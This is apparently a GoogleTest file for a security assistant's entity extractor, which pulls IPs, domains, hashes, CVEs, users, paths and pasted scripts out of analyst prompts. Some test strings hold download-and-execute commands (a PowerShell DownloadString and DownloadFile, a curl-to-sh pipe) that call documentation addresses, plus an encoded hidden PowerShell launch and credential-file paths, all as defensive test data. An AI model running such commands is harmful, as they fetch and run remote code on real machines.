// Each scanner of extract_entities() on the cases it must get right and the look-alikes it must
// leave alone. The corpus test (entity_corpus_test.cpp) checks whole prompts.
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "entity_test_support.hpp"

namespace secpilot::grounding {
namespace {

using test::typed_values;
using test::values_of_type;
using ::testing::ElementsAre;
using ::testing::IsEmpty;

TEST(EntityIp, FindsValidatedAddressesCidrsAndDropsPorts) {
  EXPECT_THAT(typed_values("Block 203.0.113.7, 2001:DB8:0:0::1 and 198.51.100.0/24 now"),
              ElementsAre("ip:203.0.113.7", "ip:2001:db8::1", "cidr:198.51.100.0/24"));
  EXPECT_THAT(typed_values("beacon to 198.51.100.23:8443 every 60s"),
              ElementsAre("ip:198.51.100.23"));
  EXPECT_THAT(typed_values("range 2001:db8:abcd::/48"), ElementsAre("cidr:2001:db8:abcd::/48"));
  EXPECT_THAT(typed_values("[2001:db8::7]:443"), ElementsAre("ip:2001:db8::7"));
}

TEST(EntityIp, LeavesVersionsTimesAndNonAddressesAlone) {
  EXPECT_THAT(typed_values("Upgrade from 1.2.3 to 10.0.19041.1 and 999.1.1.1"), IsEmpty());
  EXPECT_THAT(typed_values("agent version 10.8.1.2 is installed"), IsEmpty());
  EXPECT_THAT(typed_values("at 10:22:33 and 2024-05-01T10:22:33Z"), IsEmpty());
  EXPECT_THAT(typed_values("MAC 00:1A:2B:3C:4D:5E"), IsEmpty());
  EXPECT_THAT(typed_values("use std::string and a::b"), IsEmpty());
  EXPECT_THAT(typed_values("10.0.0.1/33 is not a prefix"), ElementsAre("ip:10.0.0.1"));
}

TEST(EntityDomain, NeedsAKnownTldAndIsLowerCased) {
  EXPECT_THAT(typed_values("Is Login-Micros0ft-Support.COM or evil-cdn.net.cn malicious?"),
              ElementsAre("domain:login-micros0ft-support.com", "domain:evil-cdn.net.cn"));
  EXPECT_THAT(typed_values("see www.example.com/path."), ElementsAre("domain:www.example.com"));
}

TEST(EntityDomain, FileNamesAbbreviationsAndCodeAreNotDomains) {
  EXPECT_THAT(typed_values("Open report.pdf, run script.ps1 and invoice.zip, i.e. e.g. etc."),
              IsEmpty());
  EXPECT_THAT(typed_values("readme.md, setup.py, lib.so, run.sh, notes.one, clip.mov"), IsEmpty());
  EXPECT_THAT(typed_values("ASP.NET and System.IO and Mr.Smith and node.js"), IsEmpty());
  EXPECT_THAT(typed_values("It ended.The next one"), IsEmpty());
  EXPECT_THAT(typed_values("call requests.get(url)"), IsEmpty());
}

TEST(EntityDomain, InternalTldsAreHostsUnlessDefanged) {
  EXPECT_THAT(typed_values("ws-fin-07.corp.example talked to dc01.contoso.local"),
              ElementsAre("host:ws-fin-07.corp.example", "host:dc01.contoso.local"));
  EXPECT_THAT(typed_values("evil[.]example"), ElementsAre("domain:evil.example"));
}

TEST(EntityUrl, KeepsPathCaseAndTrimsPunctuation) {
  EXPECT_THAT(typed_values("Fetch HTTPS://Evil.Example.COM/Payload.ps1?x=1."),
              ElementsAre("url:https://evil.example.com/Payload.ps1?x=1"));
  EXPECT_THAT(typed_values("(see https://learn.microsoft.com/en-us/a_(b))"),
              ElementsAre("url:https://learn.microsoft.com/en-us/a_(b)"));
  EXPECT_THAT(typed_values("ftp://198.51.100.9/drop and http://intranet/wiki"),
              ElementsAre("url:ftp://198.51.100.9/drop", "url:http://intranet/wiki"));
  EXPECT_THAT(typed_values("[link](https://example.com/a)"),
              ElementsAre("url:https://example.com/a"));
}

TEST(EntityEmail, ADefaultEmailBecomesAUserAfterAUserCue) {
  EXPECT_THAT(typed_values("Phishing from Billing@Evil-Invoices.com to jchen@contoso.com"),
              ElementsAre("email:billing@evil-invoices.com", "email:jchen@contoso.com"));
  EXPECT_THAT(typed_values("Reset MFA for user jchen@contoso.com"),
              ElementsAre("user:jchen@contoso.com"));
  EXPECT_THAT(typed_values("Show sign-ins for mlopez@corp.example today"),
              ElementsAre("user:mlopez@corp.example"));
  EXPECT_THAT(typed_values("The user got an email from x@evil.com"),
              ElementsAre("email:x@evil.com"));
  EXPECT_THAT(typed_values("git@github and @mention and a@b"), IsEmpty());
}

TEST(EntityHash, ExactHexLengthsWordBounded) {
  EXPECT_THAT(
      typed_values("md5 D41D8CD98F00B204E9800998ECF8427E sha1 "
                   "da39a3ee5e6b4b0d3255bfef95601890afd80709 sha256:"
                   "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"),
      ElementsAre("md5:d41d8cd98f00b204e9800998ecf8427e",
                  "sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709",
                  "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"));
  EXPECT_THAT(
      typed_values("d41d8cd98f00b204e9800998ecf8427e0 and 0xd41d8cd98f00b204e9800998ecf8427e"),
      IsEmpty());
  EXPECT_THAT(typed_values("GUID 6f9619ff-8b86-d011-b42d-00c04fc964ff, "
                           "12345678901234567890123456789012"),
              IsEmpty());
  EXPECT_THAT(typed_values("6F9619FF8B86D011B42D00C04FC964FF"),
              ElementsAre("md5:6f9619ff8b86d011b42d00c04fc964ff"));
}

TEST(EntityIds, CveAndAttack) {
  EXPECT_THAT(typed_values("cve-2024-3094, CVE-2021-44228; T1059.001, T1566 in TA0001"),
              ElementsAre("cve:CVE-2024-3094", "cve:CVE-2021-44228", "mitre_technique:T1059.001",
                          "mitre_technique:T1566", "mitre_tactic:TA0001"));
  EXPECT_THAT(typed_values("CVE-24-1, T15, T1059.1, t1059, AT1059"), IsEmpty());
}

TEST(EntityHost, CuedNamesDefaultWindowsNamesAndLists) {
  EXPECT_THAT(typed_values("Isolate host WS-FIN-07 and check DESKTOP-7H2K9QX"),
              ElementsAre("host:ws-fin-07", "host:desktop-7h2k9qx"));
  EXPECT_THAT(typed_values("servers DC01, DC02 and FILESRV"),
              ElementsAre("host:dc01", "host:dc02", "host:filesrv"));
  EXPECT_THAT(typed_values("the device named LAPTOP-42 and device ws7.contoso.com"),
              ElementsAre("host:laptop-42", "host:ws7.contoso.com"));
  EXPECT_THAT(typed_values("hostname: srv-sql-02"), ElementsAre("host:srv-sql-02"));
  EXPECT_THAT(typed_values("dropped on WS-FIN-07 and ws-hr-03"),
              ElementsAre("host:ws-fin-07", "host:ws-hr-03"));  // asset-tag names need no cue
}

TEST(EntityHost, WordsAfterCuesAreNotHosts) {
  EXPECT_THAT(typed_values("The host is down, the server-side fix on Windows Server 2019"),
              IsEmpty());
  EXPECT_THAT(typed_values("which device API and host CPU"), IsEmpty());
  EXPECT_THAT(typed_values("COVID-19, SHA-256, x86-64, 2024-05-14, PCI-DSS, Wi-Fi-6e, end-to-end"),
              IsEmpty());
  EXPECT_THAT(typed_values("the C2 server evil-cdn.net"), ElementsAre("domain:evil-cdn.net"));
}

TEST(EntityUser, UpnDomainUserAndCuedNames) {
  EXPECT_THAT(
      typed_values("CORP\\jchen, CONTOSO\\svc_sql$ and NT AUTHORITY\\SYSTEM"),
      ElementsAre("user:corp\\jchen", "user:contoso\\svc_sql$", "user:nt authority\\system"));
  EXPECT_THAT(typed_values("disable user jchen and account 'svc_backup'"),
              ElementsAre("user:jchen", "user:svc_backup"));
  EXPECT_THAT(typed_values("users jchen, mlopez and a.kim"),
              ElementsAre("user:jchen", "user:mlopez", "user:a.kim"));
}

TEST(EntityUser, WordsAfterUserCuesAreNotUsers) {
  EXPECT_THAT(typed_values("The user clicked a link; user accounts; account lockout; "
                           "user reported it; the user is VIP; user behavior; built-in account"),
              IsEmpty());
}

TEST(EntityPath, WindowsAndPosixPaths) {
  EXPECT_THAT(
      values_of_type("Ran C:\\Users\\Public\\Invoice.exe from \\\\fs01\\share\\drop\\a.lnk and "
                     "%APPDATA%\\Microsoft\\up.ps1.",
                     "file_path"),
      ElementsAre("c:\\users\\public\\invoice.exe", "\\\\fs01\\share\\drop\\a.lnk",
                  "%appdata%\\microsoft\\up.ps1"));
  EXPECT_THAT(
      values_of_type("It is in C:\\Program Files (x86)\\Acme Tools\\agent.exe today", "file_path"),
      ElementsAre("c:\\program files (x86)\\acme tools\\agent.exe"));
  EXPECT_THAT(values_of_type("\"C:\\\\Windows\\\\Temp\\\\x.dll\" and C:/Temp/y.bat", "file_path"),
              ElementsAre("c:\\windows\\temp\\x.dll", "c:\\temp\\y.bat"));
  EXPECT_THAT(values_of_type("Windows\\System32\\evil.dll", "file_path"),
              ElementsAre("windows\\system32\\evil.dll"));
  EXPECT_THAT(values_of_type("cat /etc/passwd, ~/.ssh/authorized_keys and /tmp/x.sh.", "file_path"),
              ElementsAre("/etc/passwd", "~/.ssh/authorized_keys", "/tmp/x.sh"));
}

TEST(EntityPath, RoutesRegistryKeysAndSlashWordsAreNotPaths) {
  EXPECT_THAT(typed_values("POST /v1/sessions and/or TCP/IP 24/7 HKLM\\Software\\Microsoft\\Run"),
              IsEmpty());
}

TEST(EntityIncident, CuedNumbersGuidsAndIncIds) {
  EXPECT_THAT(typed_values("incident 4127, incidents #4130 and 4131, INC-2031, INC0012345"),
              ElementsAre("incident_id:4127", "incident_id:4130", "incident_id:4131",
                          "incident_id:INC-2031", "incident_id:INC0012345"));
  EXPECT_THAT(typed_values("Sentinel incident 6F9619FF-8B86-D011-B42D-00C04FC964FF"),
              ElementsAre("incident_id:6f9619ff-8b86-d011-b42d-00c04fc964ff"));
  EXPECT_THAT(typed_values("Incident ID: 88"), ElementsAre("incident_id:88"));
  EXPECT_THAT(typed_values("incident response for 2024 and 12 incidents"), IsEmpty());
}

TEST(EntityDefang, RefangsWithOriginalSpansAndFlags) {
  const std::string text = "IOC: hxxps[:]//evil[.]com/a and 203.0.113[.]7, bob[@]evil(.)com";
  const auto entities = extract_entities(text);
  ASSERT_EQ(entities.size(), 3u);
  EXPECT_EQ(entities[0].type, "url");
  EXPECT_EQ(entities[0].value, "https://evil.com/a");
  EXPECT_EQ(entities[0].text, "hxxps[:]//evil[.]com/a");
  EXPECT_EQ(text.substr(entities[0].offset, entities[0].length), entities[0].text);
  EXPECT_TRUE(entities[0].defanged);
  EXPECT_EQ(entities[1].value, "203.0.113.7");
  EXPECT_EQ(entities[1].text, "203.0.113[.]7");
  EXPECT_TRUE(entities[1].defanged);
  EXPECT_EQ(entities[2].type, "email");
  EXPECT_EQ(entities[2].value, "bob@evil.com");
  EXPECT_EQ(entities[2].text, "bob[@]evil(.)com");
  EXPECT_THAT(typed_values("evil [dot] com, evil{.}net, evil[DOT]org, hXXp://a.example.com/"),
              ElementsAre("domain:evil.com", "domain:evil.net", "domain:evil.org",
                          "url:http://a.example.com/"));
  EXPECT_THAT(typed_values("meet (at) noon [.] later"), IsEmpty());
}

TEST(EntityDedup, SameTypeAndValueOnceWithCountAndFirstOffset) {
  const std::string text = "8.8.8.8 then EVIL.com, 8.8.8.8 again and evil[.]com";
  const auto entities = extract_entities(text);
  ASSERT_EQ(entities.size(), 2u);
  EXPECT_EQ(entities[0].value, "8.8.8.8");
  EXPECT_EQ(entities[0].count, 2u);
  EXPECT_EQ(entities[0].offset, 0u);
  EXPECT_EQ(entities[1].value, "evil.com");
  EXPECT_EQ(entities[1].count, 2u);
  EXPECT_EQ(entities[1].text, "EVIL.com");
  EXPECT_TRUE(entities[1].defanged);  // the second occurrence was
}

TEST(EntityScript, FencedBlocksByTag) {
  const std::string text =
      "Is this bad?\n```powershell\nIEX (New-Object Net.WebClient).DownloadString('http://"
      "198.51.100.5/a')\n```\nand\n```json\n{\"ip\": \"203.0.113.9\"}\n```\n";
  EXPECT_THAT(typed_values(text),
              ElementsAre("script:IEX (New-Object Net.WebClient).DownloadString('http://"
                          "198.51.100.5/a')",
                          "url:http://198.51.100.5/a", "ip:203.0.113.9"));
  EXPECT_THAT(typed_values("```kql\nSigninLogs\n| take 10\n```"),
              ElementsAre("kql:SigninLogs\n| take 10"));
}

TEST(EntityScript, PastedCodeAndCommandLines) {
  const std::string pasted =
      "Found this in a scheduled task:\n"
      "$c = New-Object System.Net.WebClient\n"
      "$c.DownloadFile('http://203.0.113.50/x.exe', \"$env:TEMP\\x.exe\")\n"
      "Start-Process \"$env:TEMP\\x.exe\"\n"
      "What does it do?";
  const auto entities = extract_entities(pasted);
  ASSERT_FALSE(entities.empty());
  EXPECT_EQ(entities[0].type, "script");
  EXPECT_EQ(entities[0].value,
            "$c = New-Object System.Net.WebClient\n"
            "$c.DownloadFile('http://203.0.113.50/x.exe', \"$env:TEMP\\x.exe\")\n"
            "Start-Process \"$env:TEMP\\x.exe\"");
  EXPECT_THAT(
      values_of_type("Decode: powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==", "script"),
      ElementsAre("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA=="));
  EXPECT_THAT(values_of_type("Ran `cmd.exe /c whoami /all > C:\\o.txt` on it", "script"),
              ElementsAre("cmd.exe /c whoami /all > C:\\o.txt"));
  EXPECT_THAT(values_of_type("Why would powershell.exe spawn from winword.exe?", "script"),
              IsEmpty());
  EXPECT_THAT(values_of_type("Is powershell -enc always malicious?", "script"), IsEmpty());
}

TEST(EntityScript, KqlInTheText) {
  EXPECT_THAT(values_of_type("Run SecurityEvent | where EventID == 4625 | count for me", "kql"),
              ElementsAre("SecurityEvent | where EventID == 4625 | count for me"));
  EXPECT_THAT(values_of_type("Explain:\nlet since = ago(1d);\nDeviceProcessEvents\n"
                             "| where Timestamp > since\n| take 5\nThanks",
                             "kql"),
              ElementsAre("let since = ago(1d);\nDeviceProcessEvents\n"
                          "| where Timestamp > since\n| take 5"));
  EXPECT_THAT(values_of_type("| IP | count |\n|---|---|\n| 1.2.3.4 | 3 |", "kql"), IsEmpty());
  EXPECT_THAT(values_of_type("Get-Process | where CPU -gt 10; ls | sort", "kql"), IsEmpty());
}

TEST(EntityScript, NoScriptsWhenTurnedOff) {
  ExtractOptions options;
  options.scripts = false;
  EXPECT_THAT(typed_values("```bash\ncurl -s http://203.0.113.5/a | sh\n```", options),
              ElementsAre("url:http://203.0.113.5/a"));
}

TEST(EntityOrder, ByOffsetAndBoundedByMaxEntities) {
  ExtractOptions options;
  options.max_entities = 2;
  EXPECT_THAT(typed_values("CVE-2024-3094 http://a.example.com/ 10.0.0.1 x@y.com", options),
              ElementsAre("cve:CVE-2024-3094", "url:http://a.example.com/"));
}

}  // namespace
}  // namespace secpilot::grounding
